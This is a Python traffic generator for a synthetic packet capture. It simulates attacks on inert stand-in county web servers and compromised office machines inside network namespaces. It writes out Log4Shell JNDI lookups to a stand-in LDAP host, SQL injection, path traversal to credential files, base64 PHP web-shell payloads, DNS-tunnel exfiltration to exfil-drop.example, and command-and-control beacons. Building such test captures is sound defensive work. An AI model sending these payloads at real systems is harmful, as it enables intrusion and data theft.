"""Traffic of the sample capture. See make-sample.sh, which runs this once in each of two network namespaces.

Each side binds all the addresses its hosts use, serves what it serves, and runs its clients on a timetable drawn from a fixed
seed. Attacks are the shapes every analyst knows; they are aimed at servers that answer politely and do nothing.
"""

import base64
import concurrent.futures
import fcntl
import http.client
import http.server
import random
import socket
import socketserver
import ssl
import struct
import subprocess
import sys
import threading
import time

DURATION = 20.0  # seconds over which clients start
START_FILE_WAIT = 1.0

WEB = [f"10.106.8.{n}" for n in range(11, 19)]  # the county's own web servers
CLIENTS = [f"10.106.{16 + n // 50}.{20 + n % 50}" for n in range(150)]  # office machines
SITES = {f"203.0.113.{10 + n}": name for n, name in enumerate([
    "news.example", "weather.example", "maps.example", "mail.example", "shop.example", "video.example"])}
TLS_GOOD = {"203.0.113.20": "bank.example", "203.0.113.21": "cloud.example", "203.0.113.22": "portal.example"}
TLS_BAD = {"203.0.113.66": "cdn.update-check.example", "203.0.113.67": "api.login-verify.example"}
C2_HTTP = ["203.0.113.80", "203.0.113.81"]
C2_RAW = ["203.0.113.90"]
RESOLVER = "192.0.2.53"
SCANNERS = [f"198.51.100.{n}" for n in range(10, 90)]
VISITORS = [f"192.0.2.{n}" for n in range(100, 200)]

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux loongarch64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
]
PAGES = ["/", "/index.html", "/notice/2026/0312.html", "/service/list?dept=7", "/static/main.css", "/search?q=permit+form", "/api/v1/weather?city=4401"]


class Web(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "nginx"
    sys_version = ""

    def do_GET(self):
        body = b"<html><head><title>Service</title></head><body><p>All services are running.</p></body></html>\n"
        status = 200
        if "passwd" in self.path or "UNION" in self.path.upper() or "%27" in self.path:
            status, body = 404, b"<html><body>Not found</body></html>\n"
        if self.path.startswith("/sync"):  # command and control answers with its next task
            body = b'{"task":"sleep","seconds":60}'
        self.answer(status, body)

    def do_POST(self):
        n = int(self.headers.get("Content-Length", "0"))
        data = self.rfile.read(n)
        if b"cmd=id" in data:  # the one server whose web shell is real
            self.answer(200, b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n")
            return
        self.answer(200, b"ok\n")

    def answer(self, status, body):
        self.send_response(status)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


class Threading(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    request_queue_size = 256

    def server_bind(self):  # HTTPServer's own asks DNS for its name
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = self.server_address


def serve_http(ip, port, tls=None):
    s = Threading((ip, port), Web)
    if tls:
        s.socket = tls.wrap_socket(s.socket, server_side=True)
    threading.Thread(target=s.serve_forever, daemon=True).start()


def serve_raw(ip, port):
    """A binary command channel: answers each message with as many bytes."""

    def one(c):
        with c:
            while data := c.recv(4096):
                c.sendall(b"\xca\xfe\xba\xbe" + b"\x00" * (len(data) - 4))

    def loop(listener):
        while True:
            c, _ = listener.accept()
            threading.Thread(target=one, args=(c,), daemon=True).start()

    listener = socket.create_server((ip, port), backlog=64)
    threading.Thread(target=loop, args=(listener,), daemon=True).start()


def dns_name(name):
    return b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"


def serve_dns(ip):
    """A resolver that knows one address for everything: QUERY in, the same question and one A record out."""

    def loop(s):
        while True:
            data, peer = s.recvfrom(4096)
            end = 12
            while data[end]:
                end += data[end] + 1
            question = data[12:end + 5]
            answer = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 300, 4) + socket.inet_aton("203.0.113.20")
            s.sendto(data[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + question + answer, peer)

    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((ip, 53))
    threading.Thread(target=loop, args=(s,), daemon=True).start()


def request(src, dst, path, headers=None, method="GET", body=None, port=80, host=None):
    c = http.client.HTTPConnection(dst, port, timeout=10, source_address=(src, 0))
    h = {"Host": host or "www.tianhe.example", "User-Agent": random.choice(BROWSERS), "Accept": "*/*"}
    h.update(headers or {})
    c.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
    for k, v in h.items():
        c.putheader(k, v)
    if body is not None:
        c.putheader("Content-Length", str(len(body)))
    c.endheaders(body)
    c.getresponse().read()
    c.close()


def tls(src, dst, name):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((dst, 443), timeout=10, source_address=(src, 0)) as raw:
        with context.wrap_socket(raw, server_hostname=name) as c:
            c.sendall(b"GET / HTTP/1.1\r\nHost: " + name.encode() + b"\r\nConnection: close\r\n\r\n")
            while c.recv(4096):
                pass


def dns(src, name, kind=1):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, 0))
    s.settimeout(5)
    s.sendto(struct.pack(">HHHHHH", random.randrange(1 << 16), 0x0100, 1, 0, 0, 0) + dns_name(name) + struct.pack(">HH", kind, 1), (RESOLVER, 53))
    s.recv(4096)
    s.close()


def raw_beacon(src, dst):
    with socket.create_connection((dst, 4444), timeout=10, source_address=(src, 0)) as c:
        for n in range(2):
            c.sendall(b"\xde\xad\xbe\xef\x00\x01" + src.encode() + b"\x00" * 8)
            c.recv(4096)


def plan_outside():
    """Who outside does what to the county's web servers."""
    jobs = []

    def add(n, f):
        for i in range(n):
            jobs.append((random.uniform(0, DURATION), lambda i=i: f(i)))

    def pick(i, salt):
        return SCANNERS[(i * 7 + salt) % len(SCANNERS)], WEB[(i + salt) % len(WEB)]

    def log4shell(i):
        src, dst = pick(i, 1)
        lookup = "${jndi:ldap://198.51.100.200:1389/a%d}" % i
        if i % 3 == 0:
            lookup = "${${lower:j}ndi:${lower:l}dap://198.51.100.200/b%d}" % i
        request(src, dst, "/login", {"X-Api-Version" if i % 2 else "User-Agent": lookup})

    def injection(i):
        src, dst = pick(i, 2)
        forms = ["/item?id=%d%%20UNION%%20SELECT%%20user,password%%20FROM%%20users--", "/item?id=%d'%%20OR%%201=1--%%20", "/item?id=%d;WAITFOR%%20DELAY%%20'0:0:5'--"]
        request(src, dst, forms[i % len(forms)] % i)

    def traversal(i):
        src, dst = pick(i, 3)
        forms = ["/download?file=../../../../../../etc/passwd", "/static/..%2f..%2f..%2f..%2fetc%2fshadow", "/view?page=..%5c..%5cwindows%5cwin.ini"]
        request(src, dst, forms[i % len(forms)])

    def webshell(i):
        src, dst = pick(i, 4)
        code = base64.b64encode(b"system('whoami');").decode()
        body = b"cmd=id" if dst == WEB[0] else b"pass=@eval(base64_decode('" + code.encode() + b"'));"
        request(src, dst, "/upload/img%d.jsp" % (i % 5) if i % 2 else "/images/logo.php", {"Content-Type": "application/x-www-form-urlencoded"}, "POST", body)

    def scanner(i):
        src, dst = pick(i, 5)
        agents = ["sqlmap/1.8.4#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)", "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "masscan/1.3"]
        request(src, dst, random.choice(["/", "/.git/config", "/admin/", "/actuator/env"]), {"User-Agent": agents[i % len(agents)]})

    def visit(i):
        request(VISITORS[i % len(VISITORS)], WEB[i % len(WEB)], random.choice(PAGES))

    add(80, log4shell)
    add(90, injection)
    add(60, traversal)
    add(48, webshell)
    add(80, scanner)
    add(160, visit)
    return jobs


def plan_inside():
    """What the county's office machines do, some of them no longer their owners'."""
    jobs = []

    def at(t, f):
        jobs.append((t, f))

    for i in range(130):
        src = random.choice(CLIENTS)
        dst = random.choice(list(SITES))
        at(random.uniform(0, DURATION), lambda s=src, d=dst: (dns(s, SITES[d]), request(s, d, random.choice(PAGES), host=SITES[d])))
    for i in range(24):
        src, dst = CLIENTS[i * 5], list(TLS_GOOD)[i % len(TLS_GOOD)]
        at(random.uniform(0, DURATION), lambda s=src, d=dst: tls(s, d, TLS_GOOD[d]))
    for i in range(30):
        src, dst = CLIENTS[i * 4 + 1], list(TLS_BAD)[i % len(TLS_BAD)]
        at(random.uniform(0, DURATION), lambda s=src, d=dst: tls(s, d, TLS_BAD[d]))
    for i in range(20):  # tunnels: data in labels, each machine several questions
        src = CLIENTS[i * 7 + 2]
        t = random.uniform(0, DURATION - 4)
        for n in range(3):
            label = base64.b32encode(random.randbytes(30)).decode().rstrip("=").lower()
            at(t + n, lambda s=src, label=label: dns(s, label + ".t.exfil-drop.example", 16))
    for i in range(15):
        src = CLIENTS[i * 9 + 3]
        at(random.uniform(0, DURATION), lambda s=src: dns(s, "update.bad-mirror.example"))
    for i in range(30):  # beacons: the same question every few seconds
        src, dst = CLIENTS[i * 5 + 4], C2_HTTP[i % len(C2_HTTP)]
        t = random.uniform(0, 6)
        for n in range(3):
            at(t + 4 * n, lambda s=src, d=dst, i=i: request(s, d, "/sync?id=%08x&v=3" % (0x51000 + i), {"User-Agent": "WinHTTP/1.0", "X-Session": "%032x" % i}, host="node.sync-pool.example"))
    for i in range(20):
        src, dst = CLIENTS[i * 6 + 5], C2_RAW[0]
        at(random.uniform(0, DURATION), lambda s=src, d=dst: raw_beacon(s, d))
    return jobs


def run(jobs):
    failures = 0
    began = time.monotonic()
    with concurrent.futures.ThreadPoolExecutor(64) as pool:
        running = []
        for t, f in sorted(jobs, key=lambda j: j[0]):
            time.sleep(max(0.0, began + t - time.monotonic()))
            running.append(pool.submit(f))
        for r in running:
            try:
                r.result()
            except Exception as e:  # one failed conversation is told; the capture then lacks it
                failures += 1
                if failures <= 5:
                    print(f"traffic: {e!r}", file=sys.stderr)
    if failures:
        sys.exit(f"traffic: {failures} conversations failed")


def offloads(device):
    """Turns off checksum and segmentation offloads: what `ethtool -K` does."""
    for command in (0x15, 0x17, 0x1F, 0x24, 0x2C):  # SRXCSUM STXCSUM STSO SGSO SGRO
        value = struct.pack("II", command, 0)
        buffer = __import__("array").array("B", value)
        request = struct.pack("16sP", device.encode(), buffer.buffer_info()[0])
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            try:
                fcntl.ioctl(s, 0x8946, request)
            except OSError as e:
                print(f"traffic: offload {command:#x} of {device}: {e}", file=sys.stderr)


def addresses(device, ips, bits):
    batch = "".join(f"addr add {ip}/{bits} dev {device}\n" for ip in ips)
    subprocess.run(["ip", "-force", "-batch", "-"], input=batch.encode(), check=True)


def main():
    side, work = sys.argv[1], sys.argv[2]
    if side == "offloads":
        offloads(work)
        return
    random.seed(f"fengsui sample {side}")
    if side == "inside":
        addresses("county", WEB + CLIENTS, 16)
        for ip in WEB:
            serve_http(ip, 80)
        jobs = plan_inside()
    else:
        addresses("world", list(SITES) + list(TLS_GOOD) + list(TLS_BAD) + C2_HTTP + C2_RAW + [RESOLVER] + SCANNERS + VISITORS, 24)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(work + "/cert.pem", work + "/key.pem")
        for ip in list(SITES) + C2_HTTP:
            serve_http(ip, 80)
        for ip in list(TLS_GOOD) + list(TLS_BAD):
            serve_http(ip, 443, context)
        for ip in C2_RAW:
            serve_raw(ip, 4444)
        serve_dns(RESOLVER)
        jobs = plan_outside()
    time.sleep(START_FILE_WAIT)  # the other side serves by then
    run(jobs)
    time.sleep(3.0)  # the other side may still be talking to our servers


main()
